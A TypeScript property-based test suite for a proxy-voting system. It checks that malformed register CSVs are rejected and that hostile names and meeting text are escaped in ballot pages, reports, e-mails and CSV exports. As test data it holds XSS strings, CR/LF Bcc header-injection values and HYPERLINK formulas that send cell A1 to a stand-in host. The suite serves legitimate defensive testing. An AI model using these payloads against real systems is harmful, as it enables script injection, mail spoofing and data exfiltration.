// Hostile text (issue 9): malformed register files and hostile names, addresses and meeting text.
//   - A register CSV with corrupted lines: every bad line is reported (line and column), no good line
//     is, and nothing is imported (the parseRegister + importHolders path leaves the table empty).
//   - Names, addresses and meeting text with HTML, quotes and CR/LF: escaped on the ballot page, in the
//     recount report, in the confirmation e-mail and in the notice e-mail; no header is ever split,
//     checked on what the SES endpoint actually received.
//   - Names and meeting text that begin like spreadsheet formulas (every spacing and full-width form): no
//     cell of the print file or of the inspector's CSV report would run in a spreadsheet (one guard,
//     shared/domain/csv.ts); the register import keeps such a name exactly and names it in its report;
//     no URL in a notice, e-mail or paper, ever holds the control number.
import { randomBytes } from 'node:crypto';
import { DeleteTableCommand } from '@aws-sdk/client-dynamodb';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { renderBallotHtml } from '../../shared/ballot-page/page.ts';
import { renderCertificateCsv } from '../../shared/domain/certificate.ts';
import { renderConfirmation } from '../../shared/domain/confirmation-email.ts';
import { beginsLikeFormula } from '../../shared/domain/csv.ts';
import type { Holder } from '../../shared/domain/holder.ts';
import { type Meeting, meetingSchema } from '../../shared/domain/meeting.ts';
import { renderNoticeEmail } from '../../shared/domain/notice.ts';
import { printFileCsv, readPrintFile } from '../../shared/domain/print-file.ts';
import {
  parseRegister,
  REGISTER_COLUMNS,
  RegisterError,
  serializeRegister,
} from '../../shared/domain/register.ts';
import { formatReport } from '../../shared/domain/report.ts';
import { tabulate } from '../../shared/domain/tabulate.ts';
import { SesMailer } from '../../shared/mail/mailer.ts';
import { createTables } from '../../shared/storage/create-tables.ts';
import { createDynamoClients } from '../../shared/storage/dynamo-client.ts';
import { TABLE_KINDS } from '../../shared/storage/tables.ts';
import { importHolders } from '../../shared/voting/register-import.ts';
import { hemacare, holder, internet } from '../support/builders.ts';
import { uniqueTableNames } from '../support/local-env.ts';
import { reportFigures } from './support/figures.ts';
import { scanAll } from './support/tables.ts';

const names = uniqueTableNames('stress-text');
const { client, doc } = createDynamoClients({ endpoint: inject('dynamoEndpoint') });

beforeAll(() => createTables(client, names));
afterAll(async () => {
  await Promise.allSettled(
    TABLE_KINDS.map((k) => client.send(new DeleteTableCommand({ TableName: names[k] }))),
  );
  client.destroy();
});

// ---------------------------------------------------------------------------------------------------
// Malformed registers.

type Cells = Record<(typeof REGISTER_COLUMNS)[number], string>;

interface Corruption {
  what: string;
  /** The column the problem must be reported in ('' for the line as a whole). */
  field: string;
  apply(cells: Cells): Cells | string;
  /** Only on the last line (it swallows the rest of the file). */
  last?: boolean;
}

const q = (s: string) => `"${s.replaceAll('"', '""')}"`;
const CORRUPTIONS: Corruption[] = [
  { what: 'negative shares', field: 'shares', apply: (c) => ({ ...c, shares: '-5' }) },
  { what: 'thousands separator', field: 'shares', apply: (c) => ({ ...c, shares: q('1,000') }) },
  { what: 'fractional shares', field: 'shares', apply: (c) => ({ ...c, shares: '12.5' }) },
  { what: 'zero shares', field: 'shares', apply: (c) => ({ ...c, shares: '0' }) },
  { what: 'huge shares', field: 'shares', apply: (c) => ({ ...c, shares: '99999999999999999999' }) },
  { what: 'shares in words', field: 'shares', apply: (c) => ({ ...c, shares: 'ten' }) },
  { what: 'empty name', field: 'name', apply: (c) => ({ ...c, name: '' }) },
  { what: 'CR/LF in a name', field: 'name', apply: (c) => ({ ...c, name: q('Eve\r\nBcc: x@example.com') }) },
  { what: 'control character in a name', field: 'name', apply: (c) => ({ ...c, name: 'Eve\u0007' }) },
  { what: 'bidi override in a name', field: 'name', apply: (c) => ({ ...c, name: 'Eve \u202egnp.exe' }) },
  { what: 'stray quote', field: 'name', apply: (c) => ({ ...c, name: 'Jo"hn' }) },
  { what: 'bad e-mail', field: 'email', apply: (c) => ({ ...c, email: 'not-an-address' }) },
  { what: 'two e-mails', field: 'email', apply: (c) => ({ ...c, email: q('a@example.com, b@example.com') }) },
  {
    what: 'header injection in e-mail',
    field: 'email',
    apply: (c) => ({ ...c, email: q('a@example.com\nBcc: b@example.com') }),
  },
  {
    what: 'e-delivery without e-mail',
    field: 'e_delivery',
    apply: (c) => ({ ...c, email: '', e_delivery: 'yes' }),
  },
  { what: 'e-delivery maybe', field: 'e_delivery', apply: (c) => ({ ...c, e_delivery: 'maybe' }) },
  { what: 'nominee Y?', field: 'nominee', apply: (c) => ({ ...c, nominee: 'Y?' }) },
  { what: 'bad account', field: 'account', apply: (c) => ({ ...c, account: 'bad account!' }) },
  { what: 'duplicate account', field: 'account', apply: (c) => ({ ...c, account: 'R-0' }) },
  { what: 'empty address', field: 'mailing_address', apply: (c) => ({ ...c, mailing_address: '' }) },
  { what: 'extra value', field: '', apply: (c) => `${Object.values(c).join(',')},extra` },
  { what: 'missing value', field: '', apply: (c) => Object.values(c).slice(0, -1).join(',') },
  // In the last column of the last line, so that no later quote closes it.
  { what: 'unclosed quote', field: 'nominee', apply: (c) => ({ ...c, nominee: '"yes' }), last: true },
];

const row = (c: Cells | string) => (typeof c === 'string' ? c : REGISTER_COLUMNS.map((k) => c[k]).join(','));

function goodCells(i: number, shares: number): Cells {
  return {
    account: `R-${i}`,
    name: i % 3 === 0 ? q(`Smith, Jane ${i}`) : `Holder ${i}`,
    joint_names: i % 4 === 0 ? 'Ann Lee;Bob Lee' : '',
    email: i % 2 === 0 ? `h${i}@example.com` : '',
    e_delivery: i % 2 === 0 ? 'yes' : 'no',
    mailing_address: i % 5 === 0 ? q(`${i} Main Street\nSpringfield`) : `${i} Main Street`,
    shares: String(shares),
    nominee: i % 7 === 0 ? 'yes' : 'no',
  };
}

describe('malformed registers', () => {
  it('report every bad line and no good one, and import nothing', async () => {
    let files = 0;
    let badLines = 0;
    const seenKinds = new Set<string>();
    await fc.assert(
      fc.asyncProperty(
        fc.integer({ min: 3, max: 60 }),
        fc.uniqueArray(fc.nat(), { minLength: 1, maxLength: 8 }),
        fc.array(fc.nat(CORRUPTIONS.length - 1), { minLength: 8, maxLength: 8 }),
        fc.boolean(),
        async (count, picks, kinds, crlf) => {
          const rows: Cells[] = Array.from({ length: count }, (_, i) => goodCells(i, 100 + i));
          // Line 2 (account R-0) stays good: the duplicate corruption copies it.
          const targets = [...new Set(picks.map((p) => 1 + (p % (count - 1))))];
          const corrupted = new Map<number, Corruption>();
          targets.forEach((t, k) => {
            let c = CORRUPTIONS[kinds[k] as number] as Corruption;
            if (c.last && t !== count - 1) c = CORRUPTIONS[0] as Corruption;
            corrupted.set(t, c);
          });
          const lines: string[] = [REGISTER_COLUMNS.join(',')];
          const expected = new Map<number, string>(); // physical line -> field
          let physical = 2;
          rows.forEach((cells, i) => {
            const c = corrupted.get(i);
            const text = row(c ? c.apply(cells) : cells);
            if (c) {
              expected.set(physical, c.field);
              seenKinds.add(c.what);
            }
            lines.push(text);
            physical += (text.match(/\r\n|\r|\n/g) ?? []).length + 1;
          });
          const csv = `${lines.join(crlf ? '\r\n' : '\n')}\n`;
          const total = rows.reduce((s, r) => s + Number(r.shares), 0);

          let error: unknown = null;
          try {
            // The import path: parse everything first, write only a register that parsed whole.
            const { holders } = parseRegister(csv, total, 'register.csv');
            await importHolders(doc, names, holders, 'secret', randomBytes);
          } catch (e) {
            error = e;
          }
          expect(error).toBeInstanceOf(RegisterError);
          const issues = (error as RegisterError).issues.filter((p) => p.line > 0);
          const reported = new Map<number, Set<string>>();
          for (const p of issues) reported.set(p.line, (reported.get(p.line) ?? new Set()).add(p.field));
          for (const [line, field] of expected) {
            expect(reported.get(line), `line ${line} (${corrupted.size} corrupted)`).toBeDefined();
            expect([...(reported.get(line) ?? [])]).toContain(field);
          }
          expect([...reported.keys()].filter((l) => !expected.has(l))).toEqual([]);
          // Nothing reached the table.
          expect(await scanAll(doc, names.register, 1)).toEqual([]);
          files += 1;
          badLines += expected.size;
        },
      ),
      { numRuns: 300, seed: 20020613 },
    );
    expect(seenKinds.size).toBe(CORRUPTIONS.length);
    reportFigures('hostile text: malformed registers', {
      files,
      badLines,
      corruptionKinds: CORRUPTIONS.length,
      registerItemsAfter: (await scanAll(doc, names.register, 1)).length,
    });
  });
});

// ---------------------------------------------------------------------------------------------------
// Hostile names, addresses and meeting text.

const HOSTILE_BITS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "' onmouseover='alert(3)",
  '</p></body><form action="https://evil.example">',
  '&amp;&lt;',
  'Eve\r\nBcc: victim@example.com',
  'Eve\nSubject: you won',
  '\u0000\u001b[31mred\u001b[0m',
  '\u2028\u2029',
];
const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE_BITS),
  fc
    .tuple(fc.constantFrom(...HOSTILE_BITS), fc.string({ unit: 'grapheme', maxLength: 20 }))
    .map(([a, b]) => `${b}${a}${b}`),
  fc.string({ unit: 'binary', maxLength: 30 }).filter((s) => s.trim().length > 0),
);

/** The element names of the markup, in order: an injected tag would change them. */
const tagsOf = (markup: string) =>
  [
    ...markup
      .replace(/<style>[\s\S]*?<\/style>/g, '')
      .replace(/<script>[\s\S]*?<\/script>/g, '')
      .matchAll(/<\/?([a-zA-Z][\w-]*)/g),
  ].map((m) => m[1]);

function meetingNamed(text: string): Meeting {
  const m = hemacare();
  const proposals = m.proposals.map((p) =>
    p.kind === 'election'
      ? {
          ...p,
          title: `Directors ${text}`,
          nominees: p.nominees.map((n, i) => (i === 0 ? { ...n, name: `Nominee ${text}` } : n)),
        }
      : { ...p, title: `Other ${text}` },
  );
  return meetingSchema.parse({
    ...m,
    company: { name: `Company ${text}`, address: `Street ${text}` },
    title: `Meeting ${text}`,
    place: `Hall ${text}`,
    proxyholders: [`Proxy ${text}`],
    proposals,
  });
}

describe('hostile names, addresses and meeting text', () => {
  const benign = meetingNamed('plain');

  it('are escaped on the ballot page and in the recount report', () => {
    const pageTags = tagsOf(renderBallotHtml(benign));
    const reportLines = (m: Meeting) => {
      const holders = [holder('H-1', 1_000), holder('REST', m.sharesOutstanding - 1_000)];
      const r = tabulate(m, holders, [internet('H-1', '2002-06-01T12:00:00.000Z', { '2': 'AGAINST' })], {
        cumulative: false,
      });
      return formatReport(r, m.company.name).split('\n');
    };
    const benignLines = reportLines(benign);
    let samples = 0;
    fc.assert(
      fc.property(hostileString, (text) => {
        const m = meetingNamed(text);
        // The page has exactly the elements of the benign page: no text became markup.
        const page = renderBallotHtml(m);
        expect(tagsOf(page)).toEqual(pageTags);
        // The report has the same lines, each starting as the benign one does: a name cannot add a
        // line ("Outcome: APPROVED"), and no control character reaches the inspector's terminal.
        const lines = reportLines(m);
        expect(lines).toHaveLength(benignLines.length);
        lines.forEach((l, i) => {
          expect(l.slice(0, 6)).toBe((benignLines[i] as string).slice(0, 6));
        });
        // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters
        expect(lines.join('\n')).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u2028\u2029]/);
        samples += 1;
      }),
      { numRuns: 500, seed: 20020613 },
    );
    reportFigures('hostile text: ballot page and recount report', { samples });
  });

  it('are escaped in the confirmation and notice e-mails, and split no header on the SES endpoint', async () => {
    const mailer = new SesMailer({
      from: 'Proxy Services <proxy@example.com>',
      endpoint: inject('sesEndpoint'),
    });
    const benignConfirmation = renderConfirmation({
      meeting: benign,
      holderName: 'Plain Holder',
      shares: 1_000,
      nominee: false,
      receiptCode: 'ABCD-EFGH-JKLM',
      executedAt: '2002-06-01T12:00:00.000Z',
      kind: 'proxy',
      votes: { '2': 'FOR' },
    });
    const benignHolder: Holder = holder('H-1', 1_000, { name: 'Plain', jointNames: ['Other'] });
    const benignNotice = renderNoticeEmail({
      meeting: benign,
      holder: benignHolder,
      controlNumber: '4111111111111111',
      ballotUrl: 'https://vote.example.com/vote',
      linkToken: 'AbCdEfGhIjKlMnOpQrStUv',
    });
    let samples = 0;
    await fc.assert(
      fc.asyncProperty(hostileString, hostileString, async (name, meetingText) => {
        const m = meetingNamed(meetingText);
        const confirmation = renderConfirmation({
          meeting: m,
          holderName: name,
          shares: 1_000,
          nominee: false,
          receiptCode: 'ABCD-EFGH-JKLM',
          executedAt: '2002-06-01T12:00:00.000Z',
          kind: 'proxy',
          votes: { '2': 'FOR' },
        });
        const notice = renderNoticeEmail({
          meeting: m,
          holder: { ...benignHolder, name, jointNames: [name] },
          controlNumber: '4111111111111111',
          ballotUrl: 'https://vote.example.com/vote',
          linkToken: 'AbCdEfGhIjKlMnOpQrStUv',
        });
        for (const url of `${notice.text} ${notice.html}`.match(/https?:\/\/[^\s"<]+/g) ?? [])
          expect(url.replace(/\D/g, '')).not.toContain('4111111111111111');
        for (const [mail, plain] of [
          [confirmation, benignConfirmation],
          [notice, benignNotice],
        ] as const) {
          // biome-ignore lint/suspicious/noControlCharactersInRegex: a subject is one line
          expect(mail.subject).not.toMatch(/[\u0000-\u001f\u007f]/);
          expect(tagsOf(mail.html)).toEqual(tagsOf(plain.html));
        }
        // Sent for real: the SES endpoint has one message to the one address, with a one-line subject.
        const to = `text-${randomBytes(4).toString('hex')}@example.com`;
        await mailer.send(to, notice, { kind: 'notice' });
        const store = (await (await fetch(`${inject('sesEndpoint')}/store`)).json()) as {
          emails: Array<{ destination: { to: string[]; cc?: string[]; bcc?: string[] }; subject: string }>;
        };
        const mine = store.emails.filter((e) => e.destination.to.includes(to));
        expect(mine).toHaveLength(1);
        expect(mine[0]?.destination.to).toEqual([to]);
        expect(mine[0]?.destination.cc ?? []).toEqual([]);
        expect(mine[0]?.destination.bcc ?? []).toEqual([]);
        expect(mine[0]?.subject).toBe(notice.subject);
        samples += 1;
      }),
      { numRuns: 150, seed: 20020613 },
    );
    // An address with a header in it never gains a recipient: the send fails, or goes to no one else.
    const injected = 'holder@example.com\r\nBcc: victim@example.com';
    const outcome = await mailer.send(injected, benignNotice).then(
      () => 'sent',
      (e: unknown) => `refused: ${(e as Error).name}`,
    );
    const store = (await (await fetch(`${inject('sesEndpoint')}/store`)).json()) as {
      emails: Array<{ destination: { to: string[]; bcc?: string[] } }>;
    };
    const reachedVictim = store.emails.filter(
      (e) =>
        (e.destination.bcc ?? []).includes('victim@example.com') ||
        e.destination.to.includes('victim@example.com'),
    );
    expect(reachedVictim).toEqual([]);
    reportFigures('hostile text: e-mails', { samples, headerInjectedAddress: outcome });
  });
});

// ---------------------------------------------------------------------------------------------------
// Spreadsheet formulas in every CSV meant for people.

const FORMULA_STARTS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const LEADS = ['', ' ', '   ', '\u00a0', '\u00a0 ', '\u3000', '\u2007', '\t', '\r', '\n', '\r\n', ' \t'];
const formulaText = fc
  .tuple(fc.constantFrom(...LEADS), fc.constantFrom(...FORMULA_STARTS), hostileString)
  .map(([lead, sign, rest]) => `${lead}${sign}HYPERLINK("http://x.example/?"&A1,"${rest}")`);

/** A cell as a spreadsheet would open it: what runs is a cell that begins like a formula, unguarded. */
const runs = (cell: string) => beginsLikeFormula(cell) && !cell.startsWith("'");

describe('names that begin like spreadsheet formulas', () => {
  it('run in no cell of the print file or the inspector report, and the register import names them', () => {
    let samples = 0;
    fc.assert(
      fc.property(formulaText, fc.oneof(formulaText, hostileString), (name, meetingText) => {
        const m = meetingNamed(meetingText);
        const h = holder('F-1', 1_000, { name, jointNames: [name], mailingAddress: `${name}\n1 Main St` });
        // The print file (mail-merge house): every cell.
        const print = printFileCsv(m, 'https://vote.example.com/vote', [
          { holder: h, controlNumber: '4111111111111111', reason: 'no-e-delivery', reissued: false },
        ]);
        const rows = readPrintFile(print);
        expect(rows).toHaveLength(1);
        for (const [column, cell] of Object.entries(rows[0] as Record<string, string>))
          expect(runs(cell), `print file ${column}: ${JSON.stringify(cell)}`).toBe(false);
        expect(rows[0]?.voting_link).toBe('https://vote.example.com/vote');
        // The inspectors' certificate: a nominee, a proposal title, the meeting and a holder named by hostile text.
        const holders = [h, holder('REST', m.sharesOutstanding - 1_000)];
        const result = tabulate(
          m,
          holders,
          [internet('F-1', '2002-06-01T12:00:00.000Z', { '2': 'AGAINST' })],
          {
            cumulative: false,
          },
        );
        for (const row of readPrintFile(
          renderCertificateCsv({ meeting: m, result, holderNames: { [h.account]: h.name } }),
        ))
          for (const cell of Object.values(row))
            expect(runs(cell), `report: ${JSON.stringify(cell)}`).toBe(false);
        samples += 1;
      }),
      { numRuns: 300, seed: 20020613 },
    );
    reportFigures('hostile text: spreadsheet formulas', { samples });
  });

  it('are imported exactly from the register, and the import names them', () => {
    fc.assert(
      fc.property(formulaText, (name) => {
        const q2 = (x: string) => `"${x.replaceAll('"', '""')}"`;
        const csv = `${REGISTER_COLUMNS.join(',')}\nF-1,${q2(name)},,,no,${q2('1 Main St')},100,no\n`;
        let parsed: ReturnType<typeof parseRegister>;
        try {
          parsed = parseRegister(csv, 100);
        } catch (e) {
          // A name the register refuses (a control character, say) is refused by name, never imported.
          expect(e).toBeInstanceOf(RegisterError);
          return;
        }
        expect(parsed.holders[0]?.name).toBe(name.trim());
        if (beginsLikeFormula(parsed.holders[0]?.name ?? '')) {
          expect(parsed.formulaLike).toEqual([{ account: 'F-1', field: 'name' }]);
          expect(serializeRegister(parsed.holders)).toContain(q2(parsed.holders[0]?.name ?? '').slice(1, -1));
        }
      }),
      { numRuns: 300, seed: 20020613 },
    );
  });
});
